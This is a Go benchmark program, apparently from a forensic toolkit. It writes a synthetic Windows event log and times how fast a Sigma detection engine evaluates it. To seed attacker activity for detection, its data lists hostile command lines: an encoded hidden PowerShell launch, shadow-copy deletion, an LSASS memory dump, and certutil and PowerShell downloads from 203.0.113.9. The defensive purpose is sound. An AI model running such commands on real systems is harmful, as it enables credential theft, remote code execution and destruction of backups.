// Command sigmabench measures package sigma on a large event log, for bench/sigma.sh.
//
//	sigmabench -gen /tmp/mix.evtx -events 1000000        # write the input
//	sigmabench -rules DIR -evtx /tmp/mix.evtx [-naive N]  # measure
//
// The input mixes what a Windows triage holds and what Sigma rules look at most: a busy server's
// Security log (evtxgen's noise: logons, privileges, 4688 process creations), Sysmon process
// creations, network connections and file creations, and PowerShell script blocks; a few events in
// a thousand are attacker activity that rules should catch. (Real logs keep one channel per file;
// the parser reads each record's channel, so one mixed file measures the same work.)
//
// The run parses the log through package parse twice: once only parsing, once evaluating each
// event with the routed and prefiltered RuleSet as it is parsed (as processing does); the difference
// of their CPU times is the evaluation's (CPU time, because the machine is shared and wall time
// counts others' work too; wall rates are printed as well). Then it evaluates the first -naive
// events again with RuleSet.Match and with MatchNaive (every rule on every event), checking both
// find the same detections. It prints one line of key=value pairs: events, rules, rates, detections
// and the peak Go heap of each pass.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"runtime"
	"runtime/pprof"
	"syscall"
	"time"

	"github.com/quarry-dfir/quarry"
	"github.com/quarry-dfir/quarry/evtx"
	"github.com/quarry-dfir/quarry/evtx/evtxgen"
	"github.com/quarry-dfir/quarry/evtx/evtxwriter"
	"github.com/quarry-dfir/quarry/parse"
	"github.com/quarry-dfir/quarry/sigma"
)

func main() {
	gen := flag.String("gen", "", "write a mixed event log of -events events to this file and exit")
	n := flag.Int("events", 1_000_000, "events to generate")
	seed := flag.Int64("seed", 1, "seed of the generated events")
	rules := flag.String("rules", "", "folder of Sigma rules to load (measure mode)")
	in := flag.String("evtx", "", "event log to measure on")
	naive := flag.Int("naive", 20000, "evaluate every rule on the first N events too (0: skip)")
	cpuprofile := flag.String("cpuprofile", "", "write a CPU profile of the measurement here")
	flag.Parse()
	if *cpuprofile != "" {
		f, err := os.Create(*cpuprofile)
		if err == nil {
			err = pprof.StartCPUProfile(f)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "sigmabench:", err)
			os.Exit(1)
		}
		defer pprof.StopCPUProfile()
	}
	var err error
	switch {
	case *gen != "":
		err = generate(*gen, *n, *seed)
	case *rules != "" && *in != "":
		err = measure(*rules, *in, *naive)
	default:
		flag.Usage()
		os.Exit(2)
	}
	if err != nil {
		pprof.StopCPUProfile()
		fmt.Fprintln(os.Stderr, "sigmabench:", err)
		os.Exit(1)
	}
}

var (
	benignCmds = []struct{ image, cmd, parent string }{
		{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
		{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=42 --launch-time-ticks=1234567`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
		{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe Install $(Arg0)`, `C:\Windows\System32\svchost.exe`},
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -File C:\Scripts\inventory.ps1`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c ""C:\Program Files\Backup\run.bat" "`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\msiexec.exe`, `C:\Windows\system32\msiexec.exe /V`, `C:\Windows\System32\services.exe`},
		{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
		{`C:\Program Files\Git\usr\bin\ssh.exe`, `"C:\Program Files\Git\usr\bin\ssh.exe" git@github.com "git-upload-pack 'org/repo.git'"`, `C:\Program Files\Git\cmd\git.exe`},
	}
	badCmds = []struct{ image, cmd, parent string }{
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`},
		{`C:\Users\Public\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`},
	}
	scripts = []string{
		`Get-ChildItem -Path C:\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item`,
		`Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\Reports\users.csv`,
		`$s = New-Object Net.WebClient; IEX $s.DownloadString('http://203.0.113.9/p.ps1')`,
	}
)

// generate writes n events, deterministic from seed.
func generate(path string, n int, seed int64) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	m := evtxgen.Machine{Computer: "SRV-APP-07.corp.example.com", Short: "SRV-APP-07", Domain: "CORP",
		SID: "S-1-5-21-2837461901-1290348576-3749102846", LsassPID: 812, SvcPID: 796}
	var users []evtxgen.Account
	for i, u := range []string{"alice.martin", "bruno.khan", "svc_backup", "svc_sql", "chen.schulz", "dana.novak", "helpdesk"} {
		users = append(users, evtxgen.Account{Name: u, Domain: "CORP", SID: fmt.Sprintf("%s-%d", m.SID, 1104+i)})
	}
	start := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	noise := evtxgen.NewNoise(m, users, []string{"alice.martin", "helpdesk"}, seed, start, evtxgen.ChannelSecurity)
	noise.SetRate(0, 2*time.Second)
	r := rand.New(rand.NewPCG(uint64(seed), 7))
	w, err := evtxwriter.New(f)
	if err != nil {
		return err
	}
	t0 := time.Now()
	guid := func() string {
		return fmt.Sprintf("%08x-%04x-%04x-%04x-%012x", r.Uint32(), r.Uint32()&0xffff, r.Uint32()&0xffff, r.Uint32()&0xffff, r.Uint64()&0xffffffffffff)
	}
	for i := 0; i < n; i++ {
		var e evtx.Event
		sec := noise.Next()
		t := sec.Time
		u := users[r.IntN(len(users))]
		user := u.Domain + `\` + u.Name
		switch k := r.IntN(100); {
		case k < 40:
			e = sec
		case k < 75:
			c := benignCmds[r.IntN(len(benignCmds))]
			if r.IntN(1000) < 3 {
				c = badCmds[r.IntN(len(badCmds))]
			}
			e = m.Sysmon1(evtxgen.SysmonProcess{Time: t, ProcessGUID: guid(), ParentGUID: guid(), PID: uint32(r.IntN(60000)),
				ParentPID: uint32(r.IntN(60000)), Image: c.image, CommandLine: c.cmd, Dir: `C:\Windows\system32\`,
				ParentImage: c.parent, ParentCmdLine: c.parent, User: user, ParentUser: user, LogonGUID: guid(),
				LogonID: uint64(r.IntN(1 << 20)), Session: 1, Integrity: "Medium",
				Hashes: fmt.Sprintf("SHA256=%016X%016X", r.Uint64(), r.Uint64()), SysmonPID: 3012, SysmonTID: 4000})
		case k < 85:
			c := benignCmds[r.IntN(len(benignCmds))]
			e = m.Sysmon3(evtxgen.SysmonNet{Time: t, ProcessGUID: guid(), PID: uint32(r.IntN(60000)), Image: c.image, User: user,
				Protocol: "tcp", Initiated: true, SrcIP: "10.1.2.3", DstIP: fmt.Sprintf("52.%d.%d.%d", r.IntN(255), r.IntN(255), r.IntN(255)),
				SrcPort: uint16(49152 + r.IntN(16000)), DstPort: 443, DstPortName: "https", SysmonPID: 3012, SysmonTID: 4000})
		case k < 95:
			c := benignCmds[r.IntN(len(benignCmds))]
			e = m.Sysmon11(evtxgen.SysmonFile{Time: t, ProcessGUID: guid(), PID: uint32(r.IntN(60000)), Image: c.image,
				Target: fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\tmp%04X.tmp`, u.Name, r.IntN(65536)), User: user, Created: t,
				SysmonPID: 3012, SysmonTID: 4000})
		default:
			s := scripts[r.IntN(2)]
			if r.IntN(1000) < 3 {
				s = scripts[2]
			}
			e = m.ScriptBlock4104(evtxgen.ScriptBlock{Time: t, User: u, Text: s, ID: guid(), PID: 4242, TID: 77})
		}
		if err := w.Write(e); err != nil {
			return err
		}
	}
	if err := w.Close(); err != nil {
		return err
	}
	el := time.Since(t0).Seconds()
	fmt.Printf("generated=%d bytes=%d seconds=%.1f\n", w.Records(), w.Size(), el)
	return f.Close()
}

// processCPU is the CPU time of the whole process (the EVTX reader decodes chunks on several
// threads): on a shared machine, wall time also counts other people's work.
func processCPU() time.Duration { return rusage(0 /* RUSAGE_SELF */) }

// threadCPU is the CPU time of the calling OS thread.
func threadCPU() time.Duration { return rusage(1 /* RUSAGE_THREAD */) }

func rusage(who int) time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(who, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// pass parses the log once, calling fn with each event, and returns the events, the process CPU
// time and the wall time it took and the peak Go heap.
func pass(path string, fn func(*quarry.Event)) (n int, cpu, wall time.Duration, peak uint64, err error) {
	p, ok := parse.Lookup("evtx")
	if !ok {
		return 0, 0, 0, 0, errors.New("no evtx parser")
	}
	f, err := os.Open(path)
	if err != nil {
		return 0, 0, 0, 0, err
	}
	defer f.Close()
	runtime.GC()
	var ms runtime.MemStats
	c0, w0 := processCPU(), time.Now()
	_, err = p.Parse(context.Background(), parse.Input{Path: path}, f, func(ev *quarry.Event) error {
		fn(ev)
		n++
		if n%(1<<16) == 0 {
			runtime.ReadMemStats(&ms)
			peak = max(peak, ms.HeapAlloc)
		}
		return nil
	})
	cpu, wall = processCPU()-c0, time.Since(w0)
	runtime.ReadMemStats(&ms)
	return n, cpu, wall, max(peak, ms.HeapAlloc), err
}

func measure(rulesDir, path string, naiveN int) error {
	t0 := time.Now()
	rs, problems, err := sigma.LoadDirs(rulesDir)
	if err != nil {
		return err
	}
	loadSec := time.Since(t0).Seconds()
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	rulesHeap := ms.HeapAlloc

	// Pass A parses only; pass B evaluates each event as it is parsed, as processing does. The
	// difference of their CPU times is the evaluation's.
	events, parseCPU, parseWall, peakA, err := pass(path, func(*quarry.Event) {})
	if err != nil {
		return err
	}
	var buf []quarry.Detection
	dets := 0
	var sample []*quarry.Event
	_, bothCPU, bothWall, peakB, err := pass(path, func(ev *quarry.Event) {
		buf = rs.AppendMatches(buf[:0], ev)
		dets += len(buf)
		if len(sample) < naiveN {
			sample = append(sample, ev)
		}
	})
	if err != nil {
		return err
	}

	// The sample: routed and naive evaluation of the same events, on this thread's CPU time.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	routedSample, naiveSample := 0, 0
	c := threadCPU()
	for rep := 0; rep < 10; rep++ {
		for _, ev := range sample {
			routedSample += len(rs.AppendMatches(buf[:0], ev))
		}
	}
	routedSampleCPU := (threadCPU() - c) / 10
	c = threadCPU()
	naive := make([][]quarry.Detection, len(sample))
	for i, ev := range sample {
		naive[i] = rs.MatchNaive(ev)
		naiveSample += len(naive[i])
	}
	naiveCPU := threadCPU() - c
	for i, ev := range sample {
		if a, b := fmt.Sprint(rs.Match(ev)), fmt.Sprint(naive[i]); a != b {
			return fmt.Errorf("routed and naive evaluation disagree on %s: %s and %s", ev.Message, a, b)
		}
	}
	rate := func(n int, d time.Duration) float64 { return float64(n) / max(d.Seconds(), 1e-9) }
	evalCPU := bothCPU - parseCPU
	fmt.Printf("events=%d rules=%d problems=%d load_s=%.2f rules_heap_mb=%.1f "+
		"eval_cpu_ev_s=%.0f parse_cpu_ev_s=%.0f parse_eval_cpu_ev_s=%.0f parse_wall_ev_s=%.0f parse_eval_wall_ev_s=%.0f "+
		"sample=%d sample_routed_cpu_ev_s=%.0f sample_naive_cpu_ev_s=%.0f speedup=%.0fx detections=%d sample_detections=%d "+
		"peak_heap_parse_mb=%.1f peak_heap_eval_mb=%.1f\n",
		events, rs.Len(), len(problems), loadSec, float64(rulesHeap)/(1<<20),
		rate(events, evalCPU), rate(events, parseCPU), rate(events, bothCPU), rate(events, parseWall), rate(events, bothWall),
		len(sample), rate(len(sample), routedSampleCPU), rate(len(sample), naiveCPU),
		naiveCPU.Seconds()/max(routedSampleCPU.Seconds(), 1e-9), dets, naiveSample,
		float64(peakA)/(1<<20), float64(peakB)/(1<<20))
	return nil
}
